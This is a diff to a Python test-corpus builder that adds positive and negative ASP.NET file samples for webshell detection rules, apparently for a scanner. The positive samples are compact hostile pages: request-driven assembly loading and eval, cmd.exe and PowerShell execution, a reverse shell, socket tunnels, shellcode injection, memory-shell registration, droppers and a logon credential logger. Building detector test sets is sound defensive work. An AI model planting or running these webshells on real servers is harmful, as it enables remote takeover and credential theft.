@@ -299,6 +299,257 @@ SAMPLES = {
 }
 
 
+
+# The later waves (issue 16): family traits, endpoints, memory shells, other execution paths.
+SAMPLES.update({
+    "WebShell_Godzilla_Session_Payload": {
+        "positive": {
+            "session-payload.aspx": page('<%@ Page Language="C#"%><% string k = "0123456789abcdef", pw = "p"; '
+                                        'string h = BitConverter.ToString(new MD5CryptoServiceProvider().ComputeHash(Encoding.Default.GetBytes(pw + k))).Replace("-", ""); '
+                                        'byte[] d = Decode(Convert.FromBase64String(Context.Request[pw])); '
+                                        'if (Context.Session["st"] == null) { Context.Session["st"] = (Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); } '
+                                        'else { object o = ((Assembly)Context.Session["st"]).CreateInstance("M"); Response.Write(h.Substring(0, 16)); Response.Write(Reply(o)); Response.Write(h.Substring(16)); } %>'),
+            "application-payload.ashx": page('<%@ WebHandler Language="C#" Class="H"%>\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) { '
+                                             'byte[] d = X(c.Request.BinaryRead(c.Request.ContentLength)); if (c.Application["a"] == null) c.Application["a"] = AppDomain.CurrentDomain.Load(d); '
+                                             'else ((System.Reflection.Assembly)c.Application["a"]).CreateInstance("M").Equals(c); } }'),
+        },
+        "negative": {
+            "session-cache.aspx": page('<%@ Page Language="C#"%><% var asm = System.Reflection.Assembly.Load("App.Reports"); Session["reportType"] = asm.GetType("App.Reports.Daily").FullName; '
+                                       'string h = BitConverter.ToString(MD5.Create().ComputeHash(Encoding.UTF8.GetBytes(User.Identity.Name))); Response.Write(h.Substring(0, 16)); %>'),
+        },
+    },
+    "WebShell_Behinder_Session_Key_Loader": {
+        "positive": {
+            "aes-session-key.aspx": page('<%@ Page Language="C#"%><% Session.Add("q", "0a1b2c3d4e5f6a7b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""), c = Request.BinaryRead(Request.ContentLength); '
+                                        'Assembly.Load(new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("Q").Equals(this); %>'),
+            "vb-session-key.aspx": page('<%@ Page Language="VB"%><% Session.Add("k", "0a1b2c3d4e5f6a7b") : Dim k() As Byte = Encoding.Default.GetBytes(Session(0) & "") : '
+                                        'Dim c() As Byte = Request.BinaryRead(Request.ContentLength) : '
+                                        'System.Reflection.Assembly.Load(New RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("Q").Equals(Me) %>'),
+            "xor-session-key.aspx": page('<%@ Page Language="C#"%><% Session["z"] = "f0e1d2c3b4a59687"; byte[] k = Encoding.Default.GetBytes(Session["z"].ToString()); byte[] c = new byte[Request.InputStream.Length]; '
+                                         'Request.InputStream.Read(c, 0, c.Length); for (int i = 0; i < c.Length; i++) c[i] = (byte)(c[i] ^ k[i + 1 & 15]); Assembly.Load(c).CreateInstance("Q").Equals(this); %>'),
+        },
+        "negative": {
+            "session-token.aspx": page('<%@ Page Language="C#"%><% Session["csrf"] = "0a1b2c3d4e5f6a7b"; byte[] k = Encoding.UTF8.GetBytes(Session["csrf"].ToString()); byte[] c = Request.BinaryRead(Request.ContentLength); '
+                                       'var json = Encoding.UTF8.GetString(new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)); Response.Write(json.Length); %>'),
+        },
+    },
+    "WebShell_Module_Invocation_Through_Equals": {
+        "positive": {
+            "equals-this.aspx": page('<%@ Page Language="C#"%><% if (Request.Form["m"] != null) System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["m"])).CreateInstance("Mod").Equals(this); %>'),
+            "equals-context.asmx": page('<%@ WebService Language="C#" Class="S"%>\npublic class S : WebService { [WebMethod(EnableSession = true)] public void R() { '
+                                        'object o = AppDomain.CurrentDomain.Load(Unwrap(Context.Request.BinaryRead(Context.Request.ContentLength))).CreateInstance("Mod"); o.Equals(Context); } }'),
+        },
+        "negative": {
+            "plugin-equals.aspx": page('<%@ Page Language="C#"%><% var a = System.Reflection.Assembly.Load("App.Plugins"); var p = a.CreateInstance("App.Plugins.Default"); '
+                                       'Response.Write(p.Equals(Session["last"])); %>'),
+        },
+    },
+    "WebShell_Decrypted_Assembly_Run_By_Reflection": {
+        "positive": {
+            "xor-run.aspx": page('<%@ Page Language="C#"%><% string r = Request.Form["data"]; byte[] d = Convert.FromBase64String(r), k = Convert.FromBase64String(Secret); '
+                                 'for (int i = 0; i < d.Length; i++) d[i] = (byte)(d[i] ^ k[i % k.Length]); Assembly a = Assembly.Load(d); object o = a.CreateInstance("Runner"); '
+                                 'MethodInfo m = o.GetType().GetMethod("Run"); Response.Write(m.Invoke(o, new object[] { r })); %>'),
+            "rc4-run.aspx": page('<%@ Page Language="C#"%><% byte[] d = Rc4(Key, Hex(Request.Form["v"])); /* j = (j + s[i] + key[i % key.Length]) % 256 */ '
+                                 'System.Reflection.Assembly.Load(d).GetType("P").GetMethod("Go").Invoke(null, new object[] { Context }); %>'),
+        },
+        "negative": {
+            "plugin-run.aspx": page('<%@ Page Language="C#"%><% var a = System.Reflection.Assembly.Load(System.IO.File.ReadAllBytes(Server.MapPath("~/bin/plugins/report.dll"))); '
+                                    'a.GetType("Report").GetMethod("Render").Invoke(null, new object[] { Request.QueryString["id"] }); %>'),
+        },
+    },
+    "WebShell_AntSword_Decoded_Eval": {
+        "positive": {
+            "base64-eval.aspx": page('<%@ Page Language="Jscript"%><% eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(Request.Item["q"])), "unsafe"); %>'),
+            "hex-eval.aspx": page('<script runat="server" language="JScript">function h(s){var r="";for(var i=0;i<s.length;i+=2)r+=String.fromCharCode(parseInt(s.substr(i,2),16));return r;}'
+                                  'function Page_Load(){var p=Request.Form("q");if(p!=null)eval(h(p));}</script>'),
+            "split-eval.aspx": page('<%@ Page Language="JScript"%><% var f = this["ev" + "al"]; f(Request.Form["q"]); %>'),
+        },
+        "negative": {
+            "client-decode.aspx": page('<%@ Page Language="C#"%><script language="javascript">var cfg = eval(atob(document.body.dataset.cfg));</script>'
+                                       '<% Response.Write(Server.HtmlEncode(Request.QueryString["q"])); %>'),
+        },
+    },
+    "WebShell_Tunnel_Socket_In_State": {
+        "positive": {
+            "session-socket.aspx": page('<%@ Page Language="C#"%><% string c = Request.QueryString["c"]; if (c == "open") { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); '
+                                        's.Connect(Request.QueryString["h"], int.Parse(Request.QueryString["p"])); Session.Add("s", s); } else { Socket s = (Socket)Session["s"]; '
+                                        'byte[] b = new byte[4096]; int n = s.Receive(b); Response.BinaryWrite(b); } %>'),
+            "application-client.aspx": page('<%@ Page Language="C#"%><% string id = Request.Headers["X-Id"]; TcpClient client = Application[id] as TcpClient; '
+                                            'if (client == null) { client = new TcpClient(); client.Connect(Request.Headers["X-Host"], 3389); Application[id] = client; } '
+                                            'Request.InputStream.CopyTo(client.GetStream()); %>'),
+        },
+        "negative": {
+            "smtp-probe.aspx": page('<%@ Page Language="C#"%><% using (var c = new TcpClient()) { c.Connect(Request.QueryString["host"] ?? "smtp.local", 25); Response.Write("ok"); } '
+                                    'Session["lastProbe"] = DateTime.UtcNow; %>'),
+        },
+    },
+    "AspNet_WebService_Command_Spy": {
+        "positive": {
+            "cmd.asmx": page('<%@ WebService Language="C#" Class="S"%>\npublic class S : WebService { [WebMethod] public string Run(string c) { '
+                             'var i = new ProcessStartInfo("cmd.exe", "/c " + c) { RedirectStandardOutput = true, UseShellExecute = false }; return Process.Start(i).StandardOutput.ReadToEnd(); } }'),
+            "exec.soap": page('<%@ WebService Language="C#" Class="S"%>\npublic class S : WebService { [WebMethod] public string E(string f, string a) { '
+                              'var p = new Process(); p.StartInfo.FileName = f; p.StartInfo.Arguments = a; p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; '
+                              'p.Start(); return p.StandardOutput.ReadToEnd(); } }'),
+        },
+        "negative": {
+            "pdf-export.asmx": page('<%@ WebService Language="C#" Class="R"%>\npublic class R : WebService { [WebMethod] public string Export(int id) { '
+                                    'var psi = new ProcessStartInfo(Server.MapPath("~/bin/wkhtmltopdf.exe"), "report.aspx?id=" + id) { RedirectStandardOutput = true }; '
+                                    'using (var p = Process.Start(psi)) p.WaitForExit(); return id + ".pdf"; } }'),
+        },
+    },
+    "AspNet_WebService_File_Manager": {
+        "positive": {
+            "files.asmx": page('<%@ WebService Language="C#" Class="F"%>\npublic class F : WebService { [WebMethod] public string[] Drives() { return Environment.GetLogicalDrives(); } '
+                               '[WebMethod] public string[] Ls(string d) { return Directory.GetFiles(d); } [WebMethod] public void Rm(string f) { File.Delete(f); } }'),
+        },
+        "negative": {
+            "documents.asmx": page('<%@ WebService Language="C#" Class="D"%>\npublic class D : WebService { [WebMethod] public string[] List(string folder) { '
+                                   'return Directory.GetFiles(Server.MapPath("~/Documents/" + Path.GetFileName(folder))); } '
+                                   '[WebMethod] public void Save(string name, byte[] data) { File.WriteAllBytes(Path.Combine(Server.MapPath("~/Documents"), Path.GetFileName(name)), data); } }'),
+        },
+    },
+    "AspNet_Handler_Writes_Requested_Path": {
+        "positive": {
+            "writer.ashx": page('<%@ WebHandler Language="C#" Class="W"%>\npublic class W : IHttpHandler { public void ProcessRequest(HttpContext context) { '
+                                'string f = context.Request["f"]; using (var w = new StreamWriter(context.Server.MapPath(f))) w.Write(context.Request["c"]); } public bool IsReusable { get { return false; } } }'),
+        },
+        "negative": {
+            "upload.ashx": page('<%@ WebHandler Language="C#" Class="U"%>\npublic class U : IHttpHandler { public void ProcessRequest(HttpContext context) { '
+                                'var f = context.Request.Files[0]; string name = Guid.NewGuid().ToString("N") + Path.GetExtension(f.FileName); '
+                                'string dir = context.Server.MapPath("~/App_Data/uploads"); f.SaveAs(context.Server.MapPath(dir + name)); } public bool IsReusable { get { return true; } } }'),
+        },
+    },
+    "AspNet_Writes_Script_Page": {
+        "positive": {
+            "dropper.ashx": page('<%@ WebHandler Language="C#" Class="D"%>\npublic class D : IHttpHandler { public void ProcessRequest(HttpContext x) { '
+                                 'using (var w = File.CreateText(x.Server.MapPath("error.aspx"))) w.Write("<%@ Page Language=\\"Jscript\\"%><%eval(Request.Item[\\"e\\"],\\"unsafe\\");%>"); } '
+                                 'public bool IsReusable { get { return false; } } }'),
+            "asp-dropper.aspx": page('<%@ Page Language="C#"%><% var w = new StreamWriter(Server.MapPath("x.asp")); w.Write("<%execute request(\\"x\\")%>"); w.Close(); %>'),
+        },
+        "negative": {
+            "cms-page.aspx": page('<%@ Page Language="C#"%><% File.WriteAllText(Server.MapPath("~/pages/" + slug + ".aspx"), '
+                                  '"<%@ Page Language=\\"C#\\" MasterPageFile=\\"~/Site.master\\" Inherits=\\"Cms.ContentPage\\" %>"); %>'),
+        },
+    },
+    "AspNet_Memory_Shell_Registration": {
+        "positive": {
+            "vpp.aspx": page('<%@ Page Language="C#"%><script runat="server">public class P : System.Web.Hosting.VirtualPathProvider { '
+                             'public override bool FileExists(string v) { return v.EndsWith("/m.aspx") || Previous.FileExists(v); } }</script>'
+                             '<% System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new P()); %>'),
+            "internal.aspx": page('<%@ Page Language="C#"%><% typeof(System.Web.Hosting.HostingEnvironment).GetMethod("RegisterVirtualPathProviderInternal", '
+                                  'BindingFlags.NonPublic | BindingFlags.Static).Invoke(null, new object[] { provider }); %>'),
+            "begin-request.aspx": page('<%@ Page Language="C#"%><% Context.ApplicationInstance.BeginRequest += new EventHandler(Hook); %>'),
+        },
+        "negative": {
+            "Global.asax": page('<%@ Application Language="C#"%><script runat="server">void Application_Start(object s, EventArgs e) { '
+                                'System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new Themes.DbPathProvider()); RouteTable.Routes.MapPageRoute("p", "blog/{s}", "~/Post.aspx"); }</script>'),
+        },
+    },
+    "AspNet_Shellcode_Injection": {
+        "positive": {
+            "stager.aspx": page('<%@ Page Language="C#"%><script runat="server">[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p); '
+                                '[DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr st, IntPtr p, uint f, IntPtr i); '
+                                'void Page_Load(object o, EventArgs e) { byte[] b = new byte[2] { 0x90, 0xc3 }; IntPtr m = VirtualAlloc(IntPtr.Zero, (UIntPtr)b.Length, 0x1000, 0x40); '
+                                'Marshal.Copy(b, 0, m, b.Length); CreateThread(IntPtr.Zero, UIntPtr.Zero, m, IntPtr.Zero, 0, IntPtr.Zero); }</script>'),
+        },
+        "negative": {
+            "memory-status.aspx": page('<%@ Page Language="C#"%><script runat="server">[DllImport("kernel32")] static extern bool GlobalMemoryStatusEx(ref MEMORYSTATUSEX m); '
+                                       'void Page_Load(object o, EventArgs e) { var m = new MEMORYSTATUSEX(); GlobalMemoryStatusEx(ref m); lbl.Text = m.ullAvailPhys.ToString(); }</script>'),
+        },
+    },
+    "AspNet_PowerShell_Runspace_From_Request": {
+        "positive": {
+            "runspace.aspx": page('<%@ Page Language="C#"%><%@ Import Namespace="System.Management.Automation.Runspaces"%><% var rs = RunspaceFactory.CreateRunspace(); rs.Open(); '
+                                  'var pl = rs.CreatePipeline(); pl.Commands.AddScript(Request.Form["ps"]); foreach (var o in pl.Invoke()) Response.Write(o); %>'),
+        },
+        "negative": {
+            "mailbox-admin.aspx": page('<%@ Page Language="C#"%><% using (var ps = System.Management.Automation.PowerShell.Create()) { ps.Runspace = rs; '
+                                       'ps.AddCommand("Set-Mailbox").AddParameter("Identity", txtUser.Text).AddParameter("ForwardingAddress", Request.Form["fwd"]); ps.Invoke(); } %>'),
+            "fixed-script.aspx": page('<%@ Page Language="C#"%><% using (var ps = System.Management.Automation.PowerShell.Create()) { '
+                                      'ps.AddScript("Get-Service W3SVC"); foreach (var o in ps.Invoke()) lbl.Text += o; } %>'),
+        },
+    },
+    "AspNet_Deserialization_Of_Request": {
+        "positive": {
+            "binaryformatter.aspx": page('<%@ Page Language="C#"%><% new BinaryFormatter().Deserialize(new MemoryStream(Convert.FromBase64String(Request.Form["d"]))); %>'),
+            "losformatter.aspx": page('<%@ Page Language="C#"%><% var o = new LosFormatter().Deserialize(Request.InputStream); %>'),
+        },
+        "negative": {
+            "json-body.aspx": page('<%@ Page Language="C#"%><% var state = new LosFormatter().Deserialize(hidState.Value); '
+                                   'var order = new JavaScriptSerializer().Deserialize(new StreamReader(Request.InputStream).ReadToEnd(), typeof(Order)); %>'),
+            "viewstate-field.aspx": page('<%@ Page Language="C#"%><% var state = new LosFormatter().Deserialize(hidState.Value); '
+                                         'var prefs = new JavaScriptSerializer().Deserialize<Dictionary<string, object>>(Request.Form["prefs"]); %>'),
+        },
+    },
+    "AspNet_Reverse_Shell": {
+        "positive": {
+            "reverse.aspx": page('<%@ Page Language="C#"%><script runat="server">void Go(object s, EventArgs e) { var c = new TcpClient(host.Value, 4444); '
+                                 'var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true; p.Start(); '
+                                 'var r = new StreamReader(c.GetStream()); while (true) p.StandardInput.WriteLine(r.ReadLine()); }</script>'),
+        },
+        "negative": {
+            "ping.aspx": page('<%@ Page Language="C#"%><% var c = new TcpClient("db.local", 1433); var p = Process.Start("ping.exe", "-n 1 db.local"); p.WaitForExit(); %>'),
+        },
+    },
+    "AspNet_Compiles_Request_Source": {
+        "positive": {
+            "codedom.aspx": page('<%@ Page Language="C#"%><% var prov = CodeDomProvider.CreateProvider("CSharp"); var cp = new CompilerParameters { GenerateInMemory = true }; '
+                                 'var res = prov.CompileAssemblyFromSource(cp, Request.Form["s"]); res.CompiledAssembly.GetType("X").GetMethod("R").Invoke(null, null); %>'),
+        },
+        "negative": {
+            "template.aspx": page('<%@ Page Language="C#"%><% var prov = new CSharpCodeProvider(); var res = prov.CompileAssemblyFromFile(new CompilerParameters(), Server.MapPath("~/App_Data/rules.cs")); '
+                                  'Response.Write(Request.QueryString["x"]); %>'),
+        },
+    },
+    "AspNet_Hidden_Type_Names": {
+        "positive": {
+            "split-names.aspx": page('<%@ Page Language="C#"%><% Type t = Type.GetType("System.Diag" + "nostics.Pro" + "cess"); '
+                                     't.GetMethod("St" + "art", new Type[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "c" + "md", "/c " + Request["q"] }); %>'),
+            "process-by-name.aspx": page('<%@ Page Language="C#"%><% Type t = Type.GetType("System.Diagnostics.Process, System"); '
+                                         't.InvokeMember("Start", BindingFlags.InvokeMethod, null, null, new object[] { "cmd.exe", "/c " + Request["q"] }); %>'),
+            "escaped.aspx": page('<%@ Page Language="C#"%><% System.Reflection.\\u0041\\u0073\\u0073embly.\\u004c\\u006fad(Convert.FromBase64String(Request.Form["x"])).CreateInstance("A").Equals(this); %>'),
+        },
+        "negative": {
+            "i18n.aspx": page('<%@ Page Language="C#"%><script>var msg = "Caf\\u00e9 \\u003cb\\u003e \\u00dcbersicht";</script><% var t = Type.GetType("MyApp.Widgets." + name); %>'),
+        },
+    },
+    "Exchange_Logon_Credential_Logger": {
+        "positive": {
+            "logon-harvest.aspx": page('<%@ Page Language="C#"%><% if (Request.HttpMethod == "POST") File.AppendAllText(@"C:\\ProgramData\\l.txt", Request.Form["username"] + ":" + Request.Form["password"] + "\\r\\n"); %>'),
+        },
+        "negative": {
+            "audit.aspx": page('<%@ Page Language="C#"%><% bool ok = Membership.ValidateUser(Request.Form["username"], Request.Form["password"]); '
+                               'File.AppendAllText(Server.MapPath("~/App_Data/audit.log"), Request.Form["username"] + " " + ok + "\\r\\n"); %>'),
+        },
+    },
+})
+
+SAMPLES["AspNet_Encoded_Script_Block"] = {
+    "positive": {
+        "encoded.asp": page('<%@ LANGUAGE = VBScript.Encode %><%#@~^CAAAAA==\\ko$K4GdY=^#~@%>'),
+    },
+    "negative": {
+        "encode-docs.asp": page('<% Response.Write("Pages may use Language=VBScript.Encode; see screnc.exe") %>'),
+    },
+}
+SAMPLES["AspNet_Request_To_Process"]["positive"]["wmi.asp"] = page(
+    '<% Set w = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process") : r = w.Create(Request.Form("c"), Null, Null, pid) %>')
+SAMPLES["AspNet_Request_Written_To_File"]["positive"]["fso.asp"] = page(
+    '<% Set fs = Server.CreateObject("Scripting.FileSystemObject") : Set f = fs.CreateTextFile(Request("p"), True) : f.Write Request("c") : f.Close %>')
+
+# Near misses for the tightened generic rules: ordinary portal pages.
+SAMPLES["AspNet_Shell_Traits_Several"]["negative"]["admin-tool.aspx"] = page(
+    '<%@ Page Language="C#"%><script runat="server">void Reindex(object s, EventArgs e) { var psi = new ProcessStartInfo(Server.MapPath("~/bin/reindex.exe"), ddl.SelectedValue) '
+    '{ RedirectStandardOutput = true, UseShellExecute = false }; using (var p = Process.Start(psi)) lbl.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd()); }</script>')
+SAMPLES["AspNet_Reflection_With_Request_Input"]["negative"]["widget-lookup.aspx"] = page(
+    '<%@ Page Language="C#"%><% Type w = Type.GetType("Portal.Widgets." + Request.QueryString["w"] + ", Portal"); if (w != null) Controls.Add((Control)Activator.CreateInstance(w)); '
+    'string sig = Convert.ToBase64String(new HMACSHA256(Convert.FromBase64String(secret)).ComputeHash(data)); %>')
+SAMPLES["AspNet_Request_Written_To_File"]["negative"]["wiki-save.aspx"] = page(
+    '<%@ Page Language="C#"%><% File.WriteAllText(Path.Combine(Server.MapPath("~/App_Data/wiki"), Guid.NewGuid() + ".txt"), Request.Form["body"]); %>')
+SAMPLES["AspNet_Request_Written_To_File"]["positive"]["path-box.aspx"] = page(
+    '<%@ Page Language="C#"%><script runat="server">void Up(object s, EventArgs e) { File1.PostedFile.SaveAs(txtPath.Text + "\\\\" + Path.GetFileName(File1.PostedFile.FileName)); }</script>')
+
+
 def main():
     if os.path.isdir(ROOT):
         shutil.rmtree(ROOT)
